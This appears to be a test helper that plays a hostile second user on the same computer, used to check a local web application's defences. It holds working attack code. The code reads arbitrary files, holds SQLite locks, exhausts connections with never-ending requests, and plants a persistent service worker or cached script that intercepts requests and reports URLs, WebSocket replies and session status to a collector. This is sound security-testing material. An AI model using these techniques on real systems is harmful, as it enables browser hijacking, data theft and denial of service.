import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { connect, type AddressInfo } from 'node:net'
import Database from 'better-sqlite3-multiple-ciphers'

/** Actions of another user of the PC (stranger.ts): a line of JSON on stdout for each outcome. */
const [what = '', ...args] = process.argv.slice(2)
const tell = (outcome: unknown) => void process.stdout.write(`${JSON.stringify(outcome)}\n`)
const codeOf = (error: unknown) =>
  error instanceof Error && 'code' in error ? String(error.code) : String(error)

const ENDLESS =
  'POST /transfer/lookup.plates-in-file HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000000\r\n\r\nx'
const FIRST_WORDS = ['', 'GET /consulta HTTP/1.1\r\nhost: ', 'GET / HTTP/1.1\r\nhost: x\r\n\r\n', ENDLESS]

const deeds: Readonly<Record<string, () => void>> = {
  /** Tries to read files. */
  read: () =>
    tell(
      args.map((path) => {
        try {
          return readFileSync(path, 'utf8')
        } catch (error) {
          return codeOf(error)
        }
      }),
    ),
  /** Takes SQLite's read lock on a file, and keeps it. */
  lock() {
    try {
      const db = new Database(args[0], { readonly: true })
      db.exec('BEGIN')
      db.prepare('SELECT * FROM sqlite_master').all()
      tell('locked')
    } catch (error) {
      tell(codeOf(error))
    }
  },
  /**
   * Listens at a port that it is given, and plants in each browser that comes a service worker (`worker`) or a page that
   * the browser keeps (`cache`). Says when it has planted, leaves the port, and reports its loot.
   */
  plant() {
    const port = Number(args[0])
    const how = args[1] ?? ''
    const store = createServer((request, response) => {
      let text = ''
      request.on('data', (chunk) => (text += String(chunk)))
      request.on('end', () => {
        tell({ loot: text })
        response.end()
      })
    })
    store.listen(0, '127.0.0.1', () => {
      const script = plantedScript((store.address() as AddressInfo).port, how)
      const server = createServer((request, response) => {
        if (request.url === '/planted.js') {
          response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': KEPT })
          return response.end(script)
        }
        if (request.url === '/planted') {
          tell('planted')
          response.end()
          server.close()
          return server.closeAllConnections()
        }
        response.writeHead(200, {
          'content-type': 'text/html',
          ...(how === 'cache' && { 'cache-control': KEPT }),
        })
        return response.end('<!doctype html><title>planted</title><script src="/planted.js"></script>')
      })
      server.listen(port, '127.0.0.1', () => tell('listens'))
    })
  },
  /** Opens connections and never closes one, not even its half after the other end has closed. */
  hold() {
    const [port = 0, count = 0] = args.map(Number)
    let tried = 0
    for (let n = 0; n < count; n++) {
      const socket = connect({ port, host: '127.0.0.1', allowHalfOpen: true })
      const settled = new Promise((resolve) => socket.once('connect', resolve).once('error', resolve))
      void settled.then(() => {
        socket.write(FIRST_WORDS[n % FIRST_WORDS.length] ?? '')
        socket.resume()
        if (++tried === count) tell({ tried })
      })
      socket.on('error', () => undefined)
    }
  },
}
const KEPT = 'public, max-age=31536000, immutable'

/** Of its page and of its worker: reports the addresses that it sees, and what the application tells it. */
const plantedScript = (store: number, how: string) => `
const report = (text) => fetch('http://127.0.0.1:${store}/', { method: 'POST', mode: 'no-cors', body: text })
if (typeof document === 'undefined') {
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', (event) => event.waitUntil(clients.claim()))
  addEventListener('fetch', (event) => {
    if (new URL(event.request.url).origin !== location.origin) return
    report(event.request.url)
    const page = '<!doctype html><title>planted</title><script src="/planted.js"></script>'
    event.respondWith(
      event.request.mode === 'navigate'
        ? new Response(page, { headers: { 'content-type': 'text/html' } })
        : caches.match(event.request).then((kept) => kept ?? fetch(event.request)))
  })
  addEventListener('install', (event) => event.waitUntil(caches.open('x').then((cache) => cache.add('/planted.js'))))
} else {
  const socket = new WebSocket(location.origin.replace('http', 'ws') + '/bridge')
  socket.onopen = () => socket.send('{"id":1,"command":"lookup.recent","args":{}}')
  socket.onerror = () => report('refused')
  socket.onmessage = ({ data }) => report('bridge ' + data)
  fetch('/session').then(({ status }) => status === 204 && report('has a session'), () => undefined)
  const planted = () => fetch('/planted').catch(() => undefined)
  if ('${how}' === 'worker')
    navigator.serviceWorker.register('/planted.js').then(() => navigator.serviceWorker.ready).then(planted)
  else planted()
}`

deeds[what]?.()
process.stdin.on('end', () => process.exit(0)).resume()
